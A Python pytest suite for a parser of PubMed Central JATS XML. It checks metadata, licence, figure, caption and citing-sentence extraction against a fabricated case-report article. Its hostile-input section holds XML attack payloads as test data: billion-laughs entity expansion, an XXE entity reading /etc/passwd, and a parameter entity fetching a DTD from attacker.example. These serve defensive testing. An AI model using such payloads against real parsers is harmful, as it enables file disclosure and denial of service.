"""JATS parsing: hostile inputs refused with the right code, metadata, figures, captions, citing text."""

from __future__ import annotations

import pickle

import pytest
from lxml import etree

from medcurate.sources.pmc import jats
from medcurate.sources.pmc.jats import Article, JatsError, figure_by_id, parse_article
from medcurate.sources.pmc.text import element_text, render, sentence_spans, split_sentences

DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Archiving and Interchange DTD v1.3 20210610//EN"'  # noqa: E501
    ' "JATS-archivearticle1-3-mathml3.dtd">\n'
)
NS = (
    'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:mml="http://www.w3.org/1998/Math/MathML" '
    'xmlns:ali="http://www.niso.org/schemas/ali/1.0/"'
)

FRONT = """
<front>
  <journal-meta>
    <journal-id journal-id-type="nlm-ta">Radiol Case Rep</journal-id>
    <journal-title-group><journal-title>Radiology Case Reports</journal-title></journal-title-group>
  </journal-meta>
  <article-meta>
    <article-id pub-id-type="pmid">31234567</article-id>
    <article-id pub-id-type="pmc">6543210</article-id>
    <article-id pub-id-type="doi">10.1016/j.radcr.2019.01.002</article-id>
    <article-categories>
      <subj-group subj-group-type="heading"><subject>Case Report</subject></subj-group>
      <subj-group subj-group-type="Discipline"><subject>Oncology</subject></subj-group>
    </article-categories>
    <title-group>
      <article-title>Hepatic <italic>angiosarcoma</italic> in a 45-year-old man</article-title>
    </title-group>
    <pub-date pub-type="collection"><year>2019</year></pub-date>
    <pub-date pub-type="ppub"><month>3</month><year>2019</year></pub-date>
    <pub-date pub-type="epub"><day>11</day><month>12</month><year>2018</year></pub-date>
    <permissions>
      <copyright-statement>© 2019 The Authors</copyright-statement>
      <license license-type="open-access">
        <ali:license_ref>http://creativecommons.org/licenses/by-nc-nd/4.0/</ali:license_ref>
        <license-p>This is an open access article under the CC BY-NC-ND license.</license-p>
      </license>
    </permissions>
    <kwd-group><title>Keywords</title><kwd>Angiosarcoma</kwd><kwd>CT</kwd><kwd>angiosarcoma</kwd></kwd-group>
  </article-meta>
</front>
"""

BODY = """
<body>
  <sec id="s1"><title>Introduction</title>
    <p>Angiosarcoma is rare [<xref ref-type="bibr" rid="B1">1</xref>,
    <xref ref-type="bibr" rid="B2">2</xref>].
    Imaging is shown in <xref ref-type="fig" rid="F1">Fig. 1</xref>. See also the
    overview (<xref ref-type="fig" rid="F1">Fig. 1</xref>).</p>
  </sec>
  <sec id="s2"><title>Case presentation</title>
    <p>A CT scan was done (<xref ref-type="fig" rid="F1">Fig. 1</xref>). Follow-up images are shown in
    Figs. <xref ref-type="fig" rid="F2">2</xref>–<xref ref-type="fig" rid="F4">4</xref>. The biopsy is in
    <xref ref-type="fig" rid="F3">Fig. 3</xref>B. The panel <xref ref-type="fig" rid="F2">Fig. 2</xref>
    matters.</p>
    <fig id="F1" position="float">
      <label>Figure 1</label>
      <caption><title>Contrast-enhanced CT.</title>
        <p>(A) Axial CT shows a 5 μm rim at 37 °C (α = 0.05). (B) Coronal view; dose 10<sup>−3</sup> Gy,
        H<sub>2</sub>O, x<sup>ab</sup>.</p></caption>
      <graphic xlink:href="rcr-14-001-g001"/>
    </fig>
    <fig-group id="FG2">
      <caption><title>Follow-up imaging.</title><p>MRI at 3 and 6 months.</p></caption>
      <fig id="F2"><label>Figure 2</label><caption><p>MRI at 3 months.</p></caption>
        <graphic xlink:href="rcr-14-001-g002"/></fig>
      <fig id="F3"><label>Figure 3</label>
        <alternatives>
          <graphic xlink:href="rcr-14-001-g003a"/><graphic xlink:href="rcr-14-001-g003b"/>
        </alternatives>
      </fig>
    </fig-group>
    <boxed-text id="BX1"><caption><title>Teaching point</title></caption>
      <p>Remember the pattern in <xref ref-type="fig" rid="F4 F5">Figs. 4 and 5</xref>.</p>
      <fig id="F5"><label>Box figure</label><caption><p>Schematic of the liver.</p></caption>
        <graphic xlink:href="rcr-14-001-g005"/></fig>
    </boxed-text>
  </sec>
</body>
"""

BACK = """
<back>
  <app-group><app id="app1"><title>Appendix A</title>
    <p>Extra views appear in <xref ref-type="fig" rid="F6">Fig. A1</xref>.</p>
    <fig id="F6"><label>Fig. A1</label><caption><p>Sagittal MRI.</p></caption>
      <graphic xlink:href="rcr-14-001-g006"/></fig>
  </app></app-group>
  <sec sec-type="supplementary-material"><title>Supplementary data</title>
    <supplementary-material id="SM1">
      <fig id="FS1"><label>Supplementary Figure S1</label><caption><p>Raw data plot.</p></caption>
        <graphic xlink:href="rcr-14-001-s001"/></fig>
    </supplementary-material>
  </sec>
</back>
<floats-group>
  <fig id="F4"><label>Figure 4</label>
    <caption><p>H&amp;E staining, original magnification ×200.</p></caption>
    <graphic xlink:href="rcr-14-001-g004"/></fig>
</floats-group>
"""


def make_article(front: str = FRONT, body: str = BODY, back: str = BACK, doctype: str = DOCTYPE) -> bytes:
    return (
        f'{doctype}<article {NS} article-type="case-report" dtd-version="1.3" xml:lang="en">'
        f"{front}{body}{back}</article>"
    ).encode()


@pytest.fixture(scope="module")
def article() -> Article:
    return parse_article(make_article())


# --- hostile input ------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE article [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<article><body><p>&lol3;</p></body></article>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE article [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<article xmlns:xlink="http://www.w3.org/1999/xlink"><body>
<fig id="F1"><caption><p>Leak: &xxe;</p></caption></fig></body></article>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE article SYSTEM "http://attacker.example/evil.dtd" [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<article><body><p>x</p></body></article>"""


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        (BILLION_LAUGHS, "xml_entities"),
        (XXE, "xml_entities"),
        (PARAMETER_ENTITY, "xml_entities"),
        (XXE.decode().encode("utf-16"), "xml_entities"),  # the raw pre-check also sees UTF-16
        (make_article()[:-200], "xml_malformed"),  # truncated download
        (b"", "xml_malformed"),
        (b"<article><p>unclosed</article>", "xml_malformed"),
        (b"<pmc-articleset><article/></pmc-articleset>", "xml_not_article"),
        (b"<html><body/></html>", "xml_not_article"),
    ],
)
def test_hostile_or_broken_input_is_refused_with_its_code(xml: bytes, code: str) -> None:
    with pytest.raises(JatsError) as info:
        parse_article(xml)
    assert info.value.code == code
    assert str(info.value).startswith(f"{code}: ")
    assert info.value.detail


def test_xxe_never_reaches_the_text() -> None:
    with pytest.raises(JatsError) as info:
        parse_article(XXE)
    assert "entit" in info.value.detail.lower()
    assert "root:" not in str(info.value)


def test_entity_reference_without_declaration_is_refused() -> None:
    # With the PMC DOCTYPE (external DTD not loaded) libxml2 keeps an unexpanded entity node.
    xml = make_article(body="<body><p>a&nbsp;b</p></body>", back="")
    with pytest.raises(JatsError) as info:
        parse_article(xml)
    assert info.value.code == "xml_entities"
    assert "nbsp" in info.value.detail
    with pytest.raises(JatsError) as info:  # and without a DOCTYPE libxml2 refuses it outright
        parse_article(make_article(body="<body><p>a&nbsp;b</p></body>", back="", doctype=""))
    assert info.value.code == "xml_entities"


def test_oversized_input_is_refused_before_parsing() -> None:
    xml = make_article()
    with pytest.raises(JatsError) as info:
        parse_article(xml, max_bytes=len(xml) - 1)
    assert info.value.code == "xml_too_large"
    assert str(len(xml)) in info.value.detail
    assert parse_article(xml, max_bytes=len(xml)).pmcid == "PMC6543210"


def test_malformed_detail_carries_lxml_message_truncated() -> None:
    with pytest.raises(JatsError) as info:
        parse_article(b"<article>" + b"<p>" * 10 + b"</article>" + b"x" * 5000)
    assert info.value.code == "xml_malformed"
    assert len(info.value.detail) <= 300
    assert "line 1" in info.value.detail


def test_unknown_error_code_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="unknown JatsError code"):
        JatsError("xml_bad", "x")


# --- metadata -----------------------------------------------------------------------------------------


def test_metadata(article: Article) -> None:
    assert article.pmcid == "PMC6543210"
    assert article.pmid == "31234567"
    assert article.doi == "10.1016/j.radcr.2019.01.002"
    assert article.title == "Hepatic angiosarcoma in a 45-year-old man"
    assert article.journal == "Radiology Case Reports"
    assert article.year == 2018  # epub preferred over ppub and collection
    assert article.article_type == "case-report"
    assert article.keywords == ("Angiosarcoma", "CT", "Oncology")  # deduplicated, heading subject left out
    assert article.copyright == "© 2019 The Authors"


def test_license_from_ali_license_ref(article: Article) -> None:
    assert article.license == "cc-by-nc-nd"
    assert article.license_url == "https://creativecommons.org/licenses/by-nc-nd/4.0/"


def _with_permissions(
    permissions: str, ids: str = '<article-id pub-id-type="pmcid">PMC77</article-id>'
) -> Article:
    front = f"<front><article-meta>{ids}<permissions>{permissions}</permissions></article-meta></front>"
    return parse_article(make_article(front=front, body="<body/>", back=""))


def test_license_from_xlink_href_and_prose() -> None:
    href = _with_permissions(
        '<license xlink:href="http://creativecommons.org/licenses/by/4.0/"><license-p>Open.</license-p></license>'
    )
    assert (href.license, href.license_url) == ("cc-by", "https://creativecommons.org/licenses/by/4.0/")
    prose = _with_permissions(
        "<license><license-p>Distributed under the terms of the Creative Commons Attribution-NonCommercial "
        "License.</license-p></license>"
    )
    assert (prose.license, prose.license_url) == ("cc-by-nc", None)
    publisher = _with_permissions(
        "<license><license-p>All rights reserved by the publisher.</license-p></license>"
    )
    assert (publisher.license, publisher.license_url) == ("other", None)


def test_missing_or_empty_license_is_none() -> None:
    missing = _with_permissions("<copyright-statement>© 2020 Smith</copyright-statement>")
    assert (missing.license, missing.license_url) == (None, None)
    assert missing.copyright == "© 2020 Smith"
    empty = _with_permissions("<license><license-p/></license>")
    assert (empty.license, empty.license_url) == (None, None)


def test_pmcid_is_normalised_and_missing_metadata_is_none() -> None:
    bare = _with_permissions("", ids='<article-id pub-id-type="pmc">PMC0012345</article-id>')
    assert bare.pmcid == "PMC12345"
    assert (bare.pmid, bare.doi, bare.title, bare.journal, bare.year, bare.keywords) == (None,) * 5 + ((),)
    assert _with_permissions("", ids='<article-id pub-id-type="pmc">n/a</article-id>').pmcid is None


# --- figures ------------------------------------------------------------------------------------------


def test_every_figure_in_document_order_with_its_container(article: Article) -> None:
    found = [(f.id, f.container) for f in article.figures]
    assert found == [
        ("F1", "body"),
        ("F2", "fig-group"),
        ("F3", "fig-group"),
        ("F5", "boxed-text"),
        ("F6", "app"),
        ("FS1", "supplementary-material"),
        ("F4", "floats-group"),
    ]


def test_graphics_and_labels(article: Article) -> None:
    assert figure_by_id(article, "F1").graphics == ("rcr-14-001-g001",)
    assert article.figure("F3").graphics == ("rcr-14-001-g003a", "rcr-14-001-g003b")
    assert article.figure("F1").label == "Figure 1"
    assert article.figure("FS1").label == "Supplementary Figure S1"
    assert article.figure("nope") is None


def test_caption_cleaning(article: Article) -> None:
    fig = article.figure("F1")
    assert fig.title == "Contrast-enhanced CT."
    assert fig.caption == (
        "Contrast-enhanced CT. (A) Axial CT shows a 5 μm rim at 37 °C (α = 0.05). "
        "(B) Coronal view; dose 10⁻³ Gy, H₂O, x^(ab)."
    )
    assert article.figure("F4").caption == "H&E staining, original magnification ×200."


def test_fig_group_child_without_caption_uses_group_caption(article: Article) -> None:
    assert article.figure("F2").caption == "MRI at 3 months."
    assert article.figure("F3").title == "Follow-up imaging."
    assert article.figure("F3").caption == "Follow-up imaging. MRI at 3 and 6 months."


def test_compound_detection(article: Article) -> None:
    fig = article.figure("F1")
    assert fig.compound is True
    assert [(p.label, p.text) for p in fig.panels] == [
        ("A", "Axial CT shows a 5 μm rim at 37 °C (α = 0.05)."),
        ("B", "Coronal view; dose 10⁻³ Gy, H₂O, x^(ab)."),
    ]
    assert article.figure("F2").compound is False
    assert article.figure("F2").panels == ()


# --- citing sentences ---------------------------------------------------------------------------------


def _citing(article: Article, fig_id: str) -> list[tuple[str | None, str]]:
    return [(c.section, c.text) for c in article.figure(fig_id).citing]


def test_citing_sentences_with_sections_deduplicated_in_order(article: Article) -> None:
    assert _citing(article, "F1") == [
        ("Introduction", "Imaging is shown in Fig. 1."),
        ("Introduction", "See also the overview (Fig. 1)."),
        ("Case presentation", "A CT scan was done (Fig. 1)."),
    ]


def test_range_of_figures_gives_the_middle_figure_the_sentence(article: Article) -> None:
    sentence = ("Case presentation", "Follow-up images are shown in Figs. 2–4.")
    assert _citing(article, "F3")[0] == sentence
    assert _citing(article, "F2") == [sentence, ("Case presentation", "The panel Fig. 2 matters.")]
    # F4 (in floats-group, after F3 in document order only by id) is cited by the range's end point.
    assert sentence in _citing(article, "F4")


def test_panel_reference_attaches_to_the_figure(article: Article) -> None:
    assert ("Case presentation", "The biopsy is in Fig. 3B.") in _citing(article, "F3")


def test_multiple_rids_boxed_text_and_appendix(article: Article) -> None:
    box = ("Teaching point", "Remember the pattern in Figs. 4 and 5.")
    assert box in _citing(article, "F4")
    assert _citing(article, "F5") == [box]
    assert _citing(article, "F6") == [("Appendix A", "Extra views appear in Fig. A1.")]
    assert _citing(article, "FS1") == []


def test_same_visible_text_twice_is_located_by_offset() -> None:
    body = """<body><sec><title>Results</title><p>Panel Fig. 1 is mentioned first. Then
      <xref ref-type="fig" rid="F1">Fig. 1</xref> is cited.</p>
      <fig id="F1"><caption><p>CT.</p></caption></fig></sec></body>"""
    parsed = parse_article(make_article(body=body, back=""))
    assert _citing(parsed, "F1") == [("Results", "Then Fig. 1 is cited.")]


def test_citing_is_capped_at_twenty_sentences() -> None:
    sentences = " ".join(f'Point {i} is in <xref ref-type="fig" rid="F1">Fig. 1</xref>.' for i in range(30))
    body = f'<body><p>{sentences}</p><fig id="F1"><caption><p>CT.</p></caption></fig></body>'
    citing = parse_article(make_article(body=body, back="")).figure("F1").citing
    assert len(citing) == 20
    assert citing[0].text == "Point 0 is in Fig. 1." and citing[0].section is None
    assert citing[-1].text == "Point 19 is in Fig. 1."


# --- text helpers -------------------------------------------------------------------------------------


def _el(xml: str) -> etree._Element:
    return etree.fromstring(f"<p {NS}>{xml}</p>".encode())


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        ("10<sup>−3</sup> and m<sup>2</sup>", "10⁻³ and m²"),
        ("H<sub>2</sub>O, T<sub>max</sub>, Ca<sup>2+</sup>", "H₂O, T_(max), Ca²⁺"),
        ("x<sup>ab</sup>, 5<sup>th</sup>, Drug<sup>®</sup>", "x^(ab), 5th, Drug®"),
        ("Scale bar,\n   50 <italic>μm</italic> .", "Scale bar, 50 μm."),
        (
            'shown<sup><xref ref-type="bibr" rid="B1">1</xref>,'
            '<xref ref-type="bibr" rid="B2">2</xref></sup>.',
            "shown.",
        ),
        (
            'as before (<xref ref-type="bibr" rid="B1">1</xref>–<xref ref-type="bibr" rid="B3">3</xref>) .',
            "as before.",
        ),
        ('by <xref ref-type="bibr" rid="B1">Smith et al. (2010)</xref> , see', "by Smith et al. (2010), see"),
        (
            '<inline-formula><mml:math alttext="p &lt; 0.05"><mml:mi>p</mml:mi></mml:math></inline-formula>',
            "p < 0.05",
        ),
        (
            "<inline-formula><mml:math><mml:msup><mml:mi>r</mml:mi><mml:mn>2</mml:mn></mml:msup><mml:mo>=</mml:mo>"
            "<mml:mfrac><mml:mi>a</mml:mi><mml:mi>b</mml:mi></mml:mfrac></mml:math></inline-formula>",
            "r²=a/b",
        ),
        (
            "<inline-formula><alternatives><tex-math>\\documentclass[12pt]{minimal}\\begin{document}"
            "$$\\upmu\\mathrm{g}/\\text{m}^{3}$$\\end{document}</tex-math>"
            '<inline-graphic xlink:href="x.gif"/></alternatives></inline-formula>',
            "μg/m³",
        ),
        ('text <fig id="F9"><caption><p>nested float</p></caption></fig> more', "text more"),
        ("P &lt; .05 at 0.5", "P < .05 at 0.5"),
    ],
)
def test_element_text(xml: str, expected: str) -> None:
    assert element_text(_el(xml)) == expected


def test_labels_dropped_only_when_asked() -> None:
    fig = _el("<label>Figure 2</label><caption><title>Chest X-ray</title></caption>")
    assert element_text(fig) == "Figure 2 Chest X-ray"
    assert element_text(fig, drop_labels=True) == "Chest X-ray"
    assert element_text(None) == ""


LEAVES = [
    "<p>  A plain   paragraph (with brackets [] ) .</p>",
    "<title>Case presentation</title>",
    "<label>Figure 3</label>",
    "<kwd>CT</kwd>",
    "<italic>in situ</italic>",
    "<xref ref-type='bibr' rid='B1'>12</xref>",
    "<xref ref-type='bibr' rid='B1'>Smith 2010</xref>",
    "<xref ref-type='fig' rid='F1'>Fig. 1</xref>",
    "<sup>−3</sup>",
    "<sub>max</sub>",
    "<fig id='F1'/>",
    "<graphic/>",
    "<disp-formula>E = mc2</disp-formula>",
    "<inline-formula>x</inline-formula>",
    "<p/>",
    "<p>\u200bzero\u00a0width\tand\ttabs</p>",
]


@pytest.mark.parametrize("xml", LEAVES)
@pytest.mark.parametrize("drop_labels", [False, True])
@pytest.mark.parametrize("drop_citations", [True, False])
def test_leaf_text_is_what_the_walker_gives(xml: str, drop_labels: bool, drop_citations: bool) -> None:
    """``element_text`` copies a childless element's text without the walker: the same result."""
    from medcurate.sources.pmc.text import _clean, _walk

    el = etree.fromstring(xml.encode())
    walked = _clean("".join(_walk(el, drop_labels, drop_citations, None).parts))
    assert element_text(el, drop_labels=drop_labels, drop_citations=drop_citations) == walked
    comment = etree.Comment("a comment")
    assert element_text(comment) == _clean("".join(_walk(comment, False, True, None).parts)) == ""


def test_sentence_end_pattern_matches_the_repeat_form() -> None:
    """``[.!?][.!?]*`` (which the regex engine can scan for) finds what ``[.!?]+`` finds."""
    import re

    from medcurate.sources.pmc.text import _CANDIDATE

    plus = re.compile(_CANDIDATE.pattern.replace("[.!?][.!?]*", "[.!?]+", 1))
    texts = ['Wow!! Really?! Yes... "Quoted." Next (see Fig. 2.) Then?" \u201cOk.\u201d  A', "a.b. c", "..."]
    for text in texts:
        assert [(m.span(), m.groups()) for m in _CANDIDATE.finditer(text)] == [
            (m.span(), m.groups()) for m in plus.finditer(text)
        ]


def test_render_tracks_offsets_of_repeated_text() -> None:
    el = _el('Fig. 2 here;  <xref ref-type="fig" rid="F2">Fig. 2</xref> there.')
    rendered = render(el, track=lambda e: e.tag == "xref")
    assert rendered.text == "Fig. 2 here; Fig. 2 there."
    (anchor,) = rendered.anchors
    assert (anchor.start, anchor.end) == (13, 19)


def test_split_sentences_handles_scientific_abbreviations() -> None:
    text = (
        "Results are shown in Fig. 2 and Figs. 3 and 4. Smith et al. reported e.g. this, i.e. that. "
        "We saw approx. 3.5 cases vs. 3 controls (No. 5) ca. 10 days later. Data from J. Smith were used. "
        "Vitamin A. The end! Is it? Yes."
    )
    assert split_sentences(text) == [
        "Results are shown in Fig. 2 and Figs. 3 and 4.",
        "Smith et al. reported e.g. this, i.e. that.",
        "We saw approx. 3.5 cases vs. 3 controls (No. 5) ca. 10 days later.",
        "Data from J. Smith were used.",
        "Vitamin A.",
        "The end!",
        "Is it?",
        "Yes.",
    ]
    assert sentence_spans("  One.  Two.  ") == [(2, 6), (8, 12)]
    assert split_sentences("") == []


def test_entity_checks_after_parsing_hold_without_the_raw_byte_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    # Belt and braces: with the cheap pre-check disabled, the parsed internal subset still refuses them.
    monkeypatch.setattr(jats, "_ENTITY_MARKERS", ())
    for xml in (BILLION_LAUGHS, XXE, PARAMETER_ENTITY):
        with pytest.raises(JatsError) as info:
            parse_article(xml)
        assert info.value.code == "xml_entities"
        assert "declares entities" in info.value.detail


def test_excessive_nesting_is_malformed() -> None:
    xml = b"<article>" + b"<p>" * 5000 + b"</p>" * 5000 + b"</article>"
    with pytest.raises(JatsError) as info:
        parse_article(xml)
    assert info.value.code == "xml_malformed"


def test_range_without_numbered_labels_uses_document_order() -> None:
    figs = "".join(f'<fig id="G{i}"><caption><p>Panel {i}.</p></caption></fig>' for i in range(1, 5))
    body = (
        '<body><p>Shown in <xref ref-type="fig" rid="G1">a</xref> to <xref ref-type="fig" rid="G3">c</xref>.'
        f"</p>{figs}</body>"
    )
    parsed = parse_article(make_article(body=body, back=""))
    assert [len(f.citing) for f in parsed.figures] == [1, 1, 1, 0]
    assert parsed.figure("G2").citing[0].text == "Shown in a to c."


def test_external_dtd_is_never_loaded(tmp_path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "LEAKED">')
    xml = (
        f'<!DOCTYPE article SYSTEM "{dtd.as_uri()}"><article><body><p>&secret;</p></body></article>'.encode()
    )
    with pytest.raises(JatsError) as info:
        parse_article(xml)
    assert info.value.code == "xml_entities"
    assert "LEAKED" not in str(info.value)
    # The same DTD line without entity references is fine: the DTD is named, not loaded.
    plain = f'<!DOCTYPE article SYSTEM "{dtd.as_uri()}"><article><body><p>ok</p></body></article>'.encode()
    assert parse_article(plain).figures == ()


def test_jats_error_survives_pickling() -> None:
    error = pickle.loads(pickle.dumps(JatsError("xml_entities", "declares entities: xxe")))
    assert (error.code, error.detail, str(error)) == (
        "xml_entities",
        "declares entities: xxe",
        "xml_entities: declares entities: xxe",
    )
